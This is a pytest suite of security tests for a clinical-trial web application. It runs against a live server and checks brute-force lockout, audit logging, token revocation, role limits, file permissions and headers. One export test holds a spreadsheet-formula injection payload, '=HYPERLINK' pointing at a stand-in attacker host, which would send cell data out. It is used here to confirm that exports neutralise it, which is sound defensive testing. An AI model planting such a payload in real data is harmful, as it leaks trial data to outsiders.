"""Attacks on accounts and hygiene (issue 10, part C), each against the real server.

gunicorn on a loopback port with its own database, seeded with ``gvhdtrial web seed`` in a fresh
``GVHDTRIAL_HOME`` and loaded with the synthetic reference trial. Each test is the attack a
curious insider would try, and fails if the property it checks is broken:

- login brute force: N wrong passwords, then even the right one is refused until the cool-off
  (django-axes), and every failure is in the audit trail;
- every account change is in the trail (user created, role changed, password changed, token
  issued and revoked), and no password or token (nor its hash) is;
- an expired and a revoked API token get 401;
- the monitor's every write attempt is refused (every POST route of the site and every writing
  operation of the API, with plausible bodies), and nothing it sends changes the data;
- a site investigator's data review is made from their own site's patients only;
- an export carries no live spreadsheet formula (``=HYPERLINK(`` typed into a CRF field);
- every file and folder the service creates is private (0600 / 0700);
- emergency unblinding is no oracle for the password: a refused request answers the same (status,
  body, time class) with the right and a wrong password; wrong passwords are throttled.

The trail is read straight from the server's database (``audit_auditentry``), not through the
service, so the check does not depend on what the service chooses to show.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import sqlite3
import statistics
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from gvhdtrial.web.loadrun import ELIGIBLE_ANSWERS, LiveServer

from .test_blinding_crawl import VALID_BODIES, _api_operations, _web_urls

pytestmark = pytest.mark.slow

REFERENCE = Path(__file__).resolve().parents[2] / "data" / "reference"
FAKETIME = Path("/usr/lib/x86_64-linux-gnu/faketime/libfaketimeMT.so.1")
LIMIT = 5  # GVHDTRIAL_LOGIN_FAILURE_LIMIT, the default
ACCOUNT_ACTIONS = {"login", "logout", "login_failed", "lockout", "password", "token_expired"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


# ---------------------------------------------------------------- the live server
class Web:
    """A browser-like session: cookies, the CSRF token, no redirects followed."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.s = requests.Session()

    def get(self, path: str) -> requests.Response:
        return self.s.get(self.url + path, allow_redirects=False, timeout=120)

    def post(self, path: str, data: dict[str, Any] | None = None) -> requests.Response:
        if "csrftoken" not in self.s.cookies:
            self.get("/login/")
        body = {**(data or {}), "csrfmiddlewaretoken": self.s.cookies.get("csrftoken", "")}
        return self.s.post(self.url + path, data=body, allow_redirects=False, timeout=120)

    def login(self, username: str, password: str) -> requests.Response:
        self.get("/login/")
        return self.post("/login/", {"username": username, "password": password})


class Live:
    def __init__(self, server: LiveServer, creds: dict[str, str], tokens: dict[str, str]) -> None:
        self.server, self.creds, self.tokens, self.url = server, creds, tokens, server.url

    def api(self, token: str, method: str, path: str, body: Any = None) -> requests.Response:
        return requests.request(
            method, f"{self.url}/api{path}", json=body, timeout=120,
            headers={"Authorization": f"Bearer {token}"},
        )  # fmt: skip

    def web(self, username: str, password: str | None = None) -> Web:
        w = Web(self.url)
        r = w.login(username, password or self.creds[username])
        assert r.status_code == 302, (username, r.status_code, r.text[:500])
        return w

    def new_user(self, username: str, role: str, site: str | None = None) -> tuple[str, str]:
        """``gvhdtrial web user``: (password, API token)."""
        args = ["web", "user", username, "--role", role] + (["--site", site] if site else [])
        lines = self.server.cli(*args).strip().splitlines()
        password = next(line.split(": ", 1)[1] for line in lines if line.startswith("password: "))
        return password, lines[-1]

    def sql(self, query: str, params: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
        """Rows from the server's own database (SQLite file or its PostgreSQL database)."""
        url = self.server.env.get("DATABASE_URL")
        if url:
            import psycopg

            with psycopg.connect(url) as conn:
                # psycopg's placeholders are %s: a literal % (LIKE 'x%') is written %%.
                pg_query = query.replace("%", "%%").replace("?", "%s")
                return list(conn.execute(pg_query, params).fetchall())
        with sqlite3.connect(self.server.home / "gvhdtrial.sqlite3") as conn:
            return list(conn.execute(query, params).fetchall())

    def trail(self, where: str = "1=1", params: tuple[Any, ...] = ()) -> list[dict[str, Any]]:
        cols = ("seq", "user", "action", "record", "field", "old", "new", "reason")
        rows = self.sql(
            'SELECT seq, "user", action, record, field, old, new, reason FROM audit_auditentry '
            f"WHERE {where} ORDER BY seq",
            params,
        )
        return [dict(zip(cols, r, strict=True)) for r in rows]

    def screened(self, token: str, randomize: bool = False) -> int:
        body = {"weight_kg": 60, "answers": ELIGIBLE_ANSWERS, "consent_date": "2024-01-02"}
        r = self.api(token, "POST", "/patients", body)
        assert r.status_code == 201, r.text
        pid = int(r.json()["id"])
        if randomize:
            assert self.api(token, "POST", f"/patients/{pid}/randomize").status_code == 200
        return pid


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    server = LiveServer(tmp_path_factory.mktemp("attack") / "home", workers=1, threads=4)
    try:
        tokens = server.seed(slots_per_stratum=40, kits_per_site=6)
        server.cli("import", str(REFERENCE))
        creds = json.loads((server.home / "demo_credentials.json").read_text())
        server.start()
        yield Live(server, creds, tokens)
    finally:
        server.stop()
        server.drop_database()


# ---------------------------------------------------------------- brute force
def test_login_brute_force_is_throttled_and_every_failure_is_audited(live: Live) -> None:
    password, _ = live.new_user("target_dm", "data_manager")
    attacker = Web(live.url)
    for i in range(LIMIT):
        r = attacker.login("target_dm", f"guess-{i}-not-it")
        assert r.status_code in (200, 429), r.status_code  # the form again, then locked out
        assert "sessionid" not in attacker.s.cookies
    assert r.status_code == 429 and "locked" in r.text.lower()
    # Now even the right password is refused (until the cool-off), and no session is made.
    r = attacker.login("target_dm", password)
    assert r.status_code == 429, r.status_code
    assert attacker.get("/").status_code == 302  # still sent to the login page
    failed = live.trail("record = ? AND action = 'login_failed'", ("account:target_dm",))
    ips = [row["new"] for row in failed if row["field"] == "ip"]
    assert len(ips) == LIMIT + 1 and set(ips) == {"127.0.0.1"}
    assert live.trail("record = ? AND action = 'lockout'", ("account:target_dm",))
    assert not live.trail("record = ? AND action = 'login'", ("account:target_dm",))
    # Another user from the same address is not locked (lockout is per username + address).
    assert live.web("datamanager").get("/").status_code == 200


# ---------------------------------------------------------------- account changes
def test_every_account_change_is_in_the_trail_and_no_secret_is(live: Live) -> None:
    admin = live.web("admin")
    r = admin.post("/users/", {"username": "newcomer", "role": "pharmacist", "site": "C02"})
    assert r.status_code == 200, r.text[:500]
    first_password = re.search(r'id="new-password">([^<]+)<', r.text).group(1)  # type: ignore[union-attr]
    (uid,) = live.sql("SELECT id FROM auth_user WHERE username = 'newcomer'")[0]
    (mid,) = live.sql("SELECT id FROM sites_membership WHERE user_id = ?", (uid,))[0]
    r = admin.post(f"/users/{uid}/role/", {"role": "investigator", "site": "C02",
                                             "reason": "promoted to sub-investigator"})  # fmt: skip
    assert r.status_code == 302
    newcomer = live.web("newcomer", first_password)
    new_password = "violet harbour lantern 4711"
    change = {"old_password": first_password, "new_password1": new_password,
              "new_password2": new_password}  # fmt: skip
    r = newcomer.post("/password/", change)
    assert r.status_code == 302, r.text[:800]
    assert live.web("newcomer", new_password).get("/").status_code == 200
    r = admin.post(f"/users/{uid}/tokens/", {"label": "lab system", "days": "30"})
    token = re.search(r'id="new-token">([^<]+)<', r.text).group(1)  # type: ignore[union-attr]
    (tid,) = live.sql("SELECT id FROM sites_apitoken WHERE user_id = ?", (uid,))[0]
    assert live.api(token, "GET", "/me").status_code == 200
    assert admin.post(f"/tokens/{tid}/revoke/", {"reason": "left the lab"}).status_code == 302

    def rows(record: str, action: str) -> dict[str, tuple[str | None, str | None]]:
        return {
            r["field"]: (r["old"], r["new"])
            for r in live.trail("record = ? AND action = ?", (record, action))
        }

    created = rows(f"auth.user:{uid}", "create")
    assert created["username"] == (None, "newcomer") and "password" not in created
    assert rows(f"sites.membership:{mid}", "create")["role"] == (None, "pharmacist")
    assert rows(f"sites.membership:{mid}", "change")["role"] == ("pharmacist", "investigator")
    assert rows("account:newcomer", "password")["changed_by"] == (None, "newcomer")
    token_created = rows(f"sites.apitoken:{tid}", "create")
    assert token_created["label"] == (None, "lab system") and "key_hash" not in token_created
    assert rows(f"sites.apitoken:{tid}", "change")["revoke_reason"] == ("", "left the lab")
    assert rows("account:newcomer", "login")["ip"] == (None, "127.0.0.1")
    # The revoked token is refused from now on.
    assert live.api(token, "GET", "/me").status_code == 401
    # No password, password hash, token or token hash anywhere in the trail.
    (pw_hash,) = live.sql("SELECT password FROM auth_user WHERE id = ?", (uid,))[0]
    secrets_ = [first_password, new_password, pw_hash, token,
                hashlib.sha256(token.encode()).hexdigest()]  # fmt: skip
    for row in live.trail():
        text = f"{row['old']} {row['new']} {row['reason']}"
        assert not any(s in text for s in secrets_), row


# ---------------------------------------------------------------- tokens
def test_an_expired_and_a_revoked_token_get_401(live: Live) -> None:
    if not FAKETIME.exists():
        pytest.fail("Debian's faketime is missing: run `make apt-deps`")
    _, active = live.new_user("token_user", "data_manager")
    # A 1-day token issued 3 days ago (the command run on a clock 3 days behind).
    past = subprocess.run(
        [sys.executable, "-m", "gvhdtrial.cli", "web", "token", "create", "token_user",
         "--days", "1", "--label", "old"],
        env={**live.server.env, "LD_PRELOAD": str(FAKETIME), "FAKETIME": "-3d"},
        capture_output=True, text=True, timeout=300, check=True,
    ).stdout.strip().splitlines()[-1]  # fmt: skip
    revoked = live.server.cli("web", "token", "create", "token_user").strip().splitlines()[-1]
    assert live.api(revoked, "GET", "/me").status_code == 200  # works until revoked
    listing = live.server.cli("web", "token", "list", "--user", "token_user").splitlines()
    newest = max(int(line.split("\t")[0]) for line in listing)
    live.server.cli("web", "token", "revoke", str(newest), "--reason", "laptop stolen")
    assert live.api(active, "GET", "/me").status_code == 200
    assert live.api(past, "GET", "/me").status_code == 401
    assert live.api(revoked, "GET", "/me").status_code == 401
    assert live.api(revoked, "GET", "/patients").status_code == 401
    expired = live.trail("record = ? AND action = 'token_expired'", ("account:token_user",))
    assert {r["field"] for r in expired} == {"token", "expired_at"}
    listing = live.server.cli("web", "token", "list", "--user", "token_user").splitlines()
    states = {line.split("\t")[2]: line.split("\t")[-1] for line in listing}
    assert states["old"] == "expired" and "revoked" in states.values()


# ---------------------------------------------------------------- the monitor
class AnyId(dict[str, list[str]]):
    """URL parameter values; a parameter not listed (a route added later) gets "1"."""

    def __missing__(self, key: str) -> list[str]:
        return ["1"]


def _data_rows(live: Live) -> int:
    """Data changes on the trail, the monitor's source data verification marks excepted (the
    one thing the monitor writes: issue 11)."""
    (n,) = live.sql(
        "SELECT COUNT(*) FROM audit_auditentry WHERE action IN ('create', 'change', 'delete') "
        "AND record NOT LIKE 'crf.verification:%'"
    )[0]
    return int(n)


def test_the_monitor_cannot_change_anything_through_any_route(live: Live) -> None:
    dm_token = live.tokens["user:datamanager"]
    patients = live.api(dm_token, "GET", "/patients").json()
    ids = [str(p["id"]) for p in patients[:2]]
    kits = live.api(dm_token, "GET", "/supply/kits?limit=2").json()
    dm = live.web("datamanager")
    # A query is raised from a field of a stored form (issue 11): the baseline's HSCT date.
    raised = dm.post(
        f"/patients/{ids[0]}/queries/",
        {"text": "Check the source.", "form": "baseline", "field": "hsct_date"},
    )
    assert raised.status_code == 302, raised.content[:500]
    (qid,) = live.sql("SELECT MAX(id) FROM queries_query")[0]
    # The SDV route gets a stored row to verify: the baseline form the query is raised on.
    (baseline_id,) = live.sql("SELECT id FROM capture_baseline WHERE patient_id = ?", (ids[0],))[0]
    values = AnyId(
        {
            "patient_id": ids,
            "tracking_number": [k["tracking_number"] for k in kits],
            "form": ["baseline", "assessments", "adverse-events", "infusions"],
            "row_id": ["1", str(baseline_id)],
            "visit": ["d28"],
            "query_id": [str(qid)],
            "user_id": ["1"],
            "token_id": ["1"],
        }
    )
    monitor = live.web("monitor")
    today = dt.date.today().isoformat()
    plausible = {
        "text": "monitor's finding", "field": "serious", "action": "reopen",
        "reason": "a reason long enough to pass", "password": live.creds["monitor"],
        "consent_date": "2024-01-02", "infusion_number": "1", "on_date": today, "do": "lock",
        "unblinded": "0", "role": "monitor", "site": "", "days": "30", "label": "x",
        "active": "0", "weight_kg": "60", "age_years": "40", "agvhd_grade": "3",
        "assessment_date": today, "visit": "d28", "skin_bsa_percent": "0",
    }  # fmt: skip
    before = _data_rows(live)
    statuses: dict[str, int] = {}
    for name, url in _web_urls(values):
        if name in ("login", "password_change"):
            continue  # logging in and changing one's own password are not data changes
        for body in ({}, plausible):
            statuses[f"POST {url} {bool(body)}"] = monitor.post(url, body).status_code
    token = live.tokens["user:monitor"]
    for path, method, url in _api_operations(values):
        if method == "get":
            continue
        body = next((b for s, b in VALID_BODIES.items() if path.endswith(s)), {})
        body = {**body, "password": live.creds["monitor"]} if "password" in body else body
        r = live.api(token, method.upper(), url, body)
        statuses[f"{method.upper()} /api{url}"] = r.status_code
        if not path.endswith("/protocol/stage"):  # a pure calculation, nothing stored
            assert r.status_code in (400, 403, 404, 405, 422), (url, r.status_code, r.text[:300])
    assert len(statuses) > 50
    assert all(s < 500 for s in statuses.values()), statuses
    assert _data_rows(live) == before, "the monitor changed data"
    # Every route but the SDV one changed nothing; the SDV route changed SDV marks only.
    changes = live.trail("\"user\" = 'monitor' AND action IN ('create', 'change', 'delete')")
    assert {c["record"].partition(":")[0] for c in changes} == {"crf.verification"}, changes
    marks = live.sql("SELECT record, field FROM crf_verification")
    assert (f"capture.baseline:{baseline_id}", "") in marks, marks
    assert all(record.startswith("capture.") for record, _field in marks), marks
    assert statuses[f"POST /patients/{ids[0]}/crf/baseline/{baseline_id}/verify/ False"] == 302
    assert not (live.server.home / "exports").exists() or not any(
        "monitor" in p.name for p in (live.server.home / "exports").iterdir()
    )


# ---------------------------------------------------------------- site review
def test_a_site_investigators_review_shows_only_their_own_site(live: Live) -> None:
    pattern = re.compile(r"Pooled summaries</h2>\s*<p>(\d+) patients?\b")
    counts = {}
    for who in ("investigator", "datamanager"):
        page = live.web(who).get("/review/")
        assert page.status_code == 200
        m = pattern.search(page.text)
        assert m, page.text[:2000]
        counts[who] = int(m.group(1))  # every patient, with or without a baseline form
        if who == "investigator":
            other_sites = {f"C0{i}" for i in range(2, 8)}
            table = page.text.split("Patients by centre", 1)[1].split("Pooled summaries", 1)[0]
            assert not any(code in table for code in other_sites)
    own = live.api(live.tokens["user:investigator"], "GET", "/patients").json()
    everyone = live.api(live.tokens["user:datamanager"], "GET", "/patients").json()
    assert len(own) < len(everyone)
    assert counts["investigator"] == len(own)  # C01's patients, not the pooled trial
    assert counts["datamanager"] == len(everyone)


# ---------------------------------------------------------------- exports
def test_an_export_carries_no_live_spreadsheet_formula(live: Live) -> None:
    inv_token = live.tokens["user:investigator"]
    patient = next(p for p in live.api(inv_token, "GET", "/patients").json() if p["randomized"])
    allocations = live.api(live.tokens["statistician"], "GET", "/randomization/allocations")
    allocated = next(a for a in allocations.json() if a["patient_code"] == patient["code"])
    onset = dt.datetime.fromisoformat(allocated["allocated_at"]).date() + dt.timedelta(days=7)
    attack = '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for source document")'
    inv = live.web("investigator")
    r = inv.post(f"/patients/{patient['id']}/crf/adverse-events/", {
        "term": "General disorders and administration site conditions - Other, specify",
        "term_specify": attack, "soc": "General disorders and administration site conditions",
        "grade": "1", "onset_date": onset.isoformat(), "outcome": "recovering",
    })  # fmt: skip
    assert r.status_code == 302, r.text[:2000]
    r = live.web("datamanager").post("/exports/", {})
    assert r.status_code == 200 and r.headers["Content-Type"] == "application/zip"
    cells = []
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        for name in z.namelist():
            if name.endswith(".csv"):
                text = z.read(name).decode("utf-8")
                cells += [(name, c) for row in csv.reader(io.StringIO(text)) for c in row]
    assert any(attack in c for _, c in cells), "the typed text is exported (quoted)"
    live_formulas = [
        (name, c) for name, c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)
    ]
    assert live_formulas == []
    assert any(n.endswith("adverse_events.csv") and c == "'" + attack for n, c in cells)


# ---------------------------------------------------------------- file modes
def test_every_file_and_folder_the_service_creates_is_private(live: Live) -> None:
    # Make the service create what it creates: an export, a sent mail (unblinding notice).
    live.web("admin").post("/exports/", {})
    token = live.tokens["user:investigator"]
    pid = live.screened(token, randomize=True)
    body = {"reason": "anaphylaxis: treating team needs it", "password": live.creds["investigator"]}
    r = live.api(token, "POST", f"/patients/{pid}/emergency-unblinding", body)
    assert r.status_code == 200, r.text
    home = live.server.home
    made = [p for p in home.rglob("*") if p.name != "server.log"]  # server.log: the test's own
    assert any(p.name.endswith(".sqlite3") for p in made) or live.server.vendor == "postgresql"
    assert (home / "sent-mail").is_dir() and (home / "exports").is_dir()
    loose = [
        (str(p.relative_to(home)), oct(p.stat().st_mode & 0o777))
        for p in [home, *made]
        if p.stat().st_mode & 0o077
    ]
    assert loose == []
    assert (home.stat().st_mode & 0o777) == 0o700


# ---------------------------------------------------------------- emergency unblinding
def _timed(live: Live, token: str, pid: int, body: dict[str, str]) -> tuple[int, str, float]:
    started = time.perf_counter()
    r = live.api(token, "POST", f"/patients/{pid}/emergency-unblinding", body)
    return r.status_code, r.text, time.perf_counter() - started


def test_emergency_unblinding_is_no_oracle_for_the_password_and_is_throttled(live: Live) -> None:
    password, token = live.new_user("unblinder", "investigator", "C01")
    wrong = "not-the-password-at-all"
    reason = "suspected anaphylaxis: the treating team needs the allocation"
    not_randomized = live.screened(token)
    randomized = live.screened(token, randomize=True)
    taken = live.screened(token, randomize=True)
    r = live.api(live.tokens["user:investigator"], "POST",
                 f"/patients/{taken}/emergency-unblinding",
                 {"reason": reason, "password": live.creds["investigator"]})  # fmt: skip
    assert r.status_code == 200
    refused = [
        (not_randomized, reason),  # nothing to unblind
        (taken, reason),  # already unblinded by someone else
        (randomized, "short"),  # reason too short
    ]
    for pid, why in refused:
        right = [_timed(live, token, pid, {"reason": why, "password": password}) for _ in range(3)]
        bad = [_timed(live, token, pid, {"reason": why, "password": wrong}) for _ in range(3)]
        answers = {(s, body) for s, body, _ in right + bad}
        assert len(answers) == 1, (pid, why, answers)  # identical status and body
        (status, body) = answers.pop()
        assert 400 <= status < 500 and "password" not in body.lower()
        ratio = statistics.median(t for *_, t in right) / statistics.median(t for *_, t in bad)
        assert 1 / 3 < ratio < 3, (pid, why, ratio)  # one password hash either way
    assert not live.trail("record = ? AND action = 'login_failed'", ("account:unblinder",))
    # Guessing on a request that would succeed: throttled like a login, then even the right
    # password is refused and nothing is unblinded.
    statuses = [
        live.api(token, "POST", f"/patients/{randomized}/emergency-unblinding",
                 {"reason": reason, "password": f"{wrong}-{i}"}).status_code
        for i in range(LIMIT)
    ]  # fmt: skip
    assert statuses == [403] * (LIMIT - 1) + [429], statuses
    r = live.api(token, "POST", f"/patients/{randomized}/emergency-unblinding",
                 {"reason": reason, "password": password})  # fmt: skip
    assert r.status_code == 429, r.text
    assert live.api(token, "GET", f"/patients/{randomized}").json()["emergency_unblinded"] is False
    failed = live.trail("record = ? AND action = 'login_failed' AND field = 'purpose'",
                        ("account:unblinder",))  # fmt: skip
    assert [r["new"] for r in failed][:LIMIT] == ["emergency unblinding"] * LIMIT
    # The emergency unblinding lockout also closes the login (same username and address).
    assert Web(live.url).login("unblinder", password).status_code == 429


def test_the_lock_e_signature_is_throttled_like_a_login(live: Live) -> None:
    """Guessing a data manager's password on the lock's e-signature (a stolen session or
    token): the wrong passwords count towards the lockout and are audited, and then even the
    right password is refused, so nothing is locked (issue 10)."""
    password, token = live.new_user("lock_guesser", "data_manager")
    # Confirmed past the lock checklist (the reference trial has open items), so that each
    # guess reaches the password check.
    body = {"reason": "final analysis: all patients completed day 360", "confirmed": True}
    statuses = [
        live.api(token, "POST", "/lock", {**body, "password": f"guess-{i}"}).status_code
        for i in range(LIMIT)
    ]
    assert statuses == [403] * (LIMIT - 1) + [429], statuses
    r = live.api(token, "POST", "/lock", {**body, "password": password})
    assert r.status_code == 429, r.text
    assert live.api(token, "GET", "/lock").json()["locked"] is False
    failed = live.trail("record = ? AND action = 'login_failed' AND field = 'purpose'",
                        ("account:lock_guesser",))  # fmt: skip
    assert [row["new"] for row in failed] == ["e-signature: lock"] * (LIMIT + 1)
    # The web page refuses the same way: the lockout holds for username + address.
    web = Web(live.url)
    assert web.login("lock_guesser", password).status_code == 429


def test_the_service_sends_csp_referrer_and_nosniff_headers(live: Live) -> None:
    r = live.web("investigator").get("/patients/")
    csp = r.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp.split("script-src", 1)[1].split(";", 1)[0]
    assert r.headers["Referrer-Policy"] == "same-origin"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert "Strict-Transport-Security" not in r.headers  # plain HTTP here: no HSTS
